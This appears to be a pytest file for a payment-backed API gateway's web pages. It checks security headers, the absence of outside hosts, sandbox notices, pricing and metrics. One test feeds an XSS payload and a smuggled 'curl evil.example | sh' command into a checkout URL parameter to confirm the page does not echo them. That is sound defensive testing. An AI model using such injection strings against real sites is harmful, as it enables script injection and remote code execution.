"""The pages: offline, honest about play money and tiny models, and safe against what stands in an address."""

from __future__ import annotations

import re

import httpx
import pytest

from gateway.app import create_app
from gateway.manual import NAMES
from gateway.routes.pages import DOCS_ASSETS
from payments.stripe_checkout import checkout_for

PAGES = [
    "/",
    "/pricing",
    "/credits",
    "/account",
    "/dashboard",
    "/sign-in",
    "/checkout/success?session_id=cs_test_1",
    "/checkout/canceled",
    "/docs",
    *(f"/docs/{name}" for name in NAMES),
]

SCRIPTS = ["session.js", "sign-in.js", "account.js", "credits.js", "dashboard.js", "keys.js"]


@pytest.mark.parametrize("path", PAGES)
async def test_pages_load_nothing_from_elsewhere(web: httpx.AsyncClient, path: str):
    answer = await web.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    assert answer.headers["referrer-policy"] == "no-referrer"
    links = re.findall(r'(?:src|href)="([^"]+)"', answer.text)
    assert links
    for link in links:
        assert link.startswith("/")
        assert (await web.get(link)).status_code in {200, 503}, link
    assert not re.findall(r"<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=", answer.text)


async def test_scripts_and_styles_name_no_other_host(web):
    for name in ("farebox.css", "docs.css", "claim.js", "copy.js", "docs.js", "receipts.js", *SCRIPTS):
        answer = await web.get(f"/static/{name}")
        assert answer.status_code == 200
        assert not re.search(r"https?://|//[a-z]+\.[a-z]", answer.text), name


async def test_the_reference_is_drawn_by_a_swagger_ui_that_knows_openapi_3_1():
    bundle = (DOCS_ASSETS / "swagger-ui-bundle.js").read_text(encoding="utf-8")
    assert re.search(r'PACKAGE_VERSION:"5\.\d+', bundle)


@pytest.mark.parametrize("path", PAGES)
async def test_the_sandbox_and_the_tiny_profile_are_named_on_every_page(
    settings, stub_ledger, models, objects, path
):
    told = settings.model_copy(update={"profile": "tiny", "stripe_api_base": "http://127.0.0.1:9"})
    told = type(settings)(
        **{**told.model_dump(), "stripe_secret_key": "sk_test_1", "stripe_webhook_secret": "whsec_1"}
    )
    app = create_app(told, stub_ledger, models, checkout_for(told, stub_ledger), objects)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://t") as web:
        text = (await web.get(path)).text
    assert "Payment sandbox" in text
    assert "Tiny profile" in text
    assert "meaningless" in text


@pytest.mark.parametrize("path", PAGES)
async def test_a_real_server_carries_no_such_notice(settings, stub_ledger, models, objects, path):
    told = type(settings)(
        **{
            **settings.model_dump(),
            "profile": "gpu",
            "stripe_secret_key": "sk_live_1",
            "stripe_webhook_secret": "whsec_1",
        }
    )
    app = create_app(told, stub_ledger, models, checkout_for(told, stub_ledger), objects)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://t") as web:
        text = (await web.get(path)).text
    assert "andbox" not in text
    assert "iny profile" not in text


async def test_the_landing_page_shows_what_is_on_sale_and_the_commands(web):
    text = (await web.get("/")).text
    assert 'API_BASE="http://farebox.test"' in text
    assert "image.generate" in text
    assert "/api/v1/checkout/stripe" in text


@pytest.mark.parametrize(
    "attack", ["\"><script>alert(1)</script>'", "cs_1\"}' && curl evil.example | sh; echo '", "cs_1\n"]
)
async def test_no_address_writes_a_command_for_its_reader_to_paste(web, attack):
    answer = await web.get("/checkout/success", params={"session_id": attack})
    assert answer.status_code == 200
    for piece in ("alert", "evil.example", "cs_1", "<pre>"):
        assert piece not in answer.text
    assert "lacks its" in answer.text


async def test_a_success_page_without_a_session_says_what_to_do(web):
    answer = await web.get("/checkout/success")
    assert answer.status_code == 200
    assert "session_id" in answer.text
    assert "Show my API key" not in answer.text


async def test_metrics_are_prometheus_text(web):
    await web.get("/api/v1/packages")
    answer = await web.get("/metrics")
    assert answer.headers["content-type"].startswith("text/plain")
    assert 'farebox_http_requests_total{method="GET",route="/api/v1/packages",status="200"}' in answer.text


async def test_the_price_page_shows_what_the_price_list_says(web):
    text = (await web.get("/pricing")).text
    prices = (await web.get("/api/v1/pricing")).json()
    assert len(prices["tools"]) > 1
    for tool in prices["tools"]:
        assert f"<code>{tool['tool']}</code>" in text
        assert re.search(rf"\b{tool['tokens']} tokens? per ", text)
        assert tool["model"] in text
    assert "builder" in text.lower()
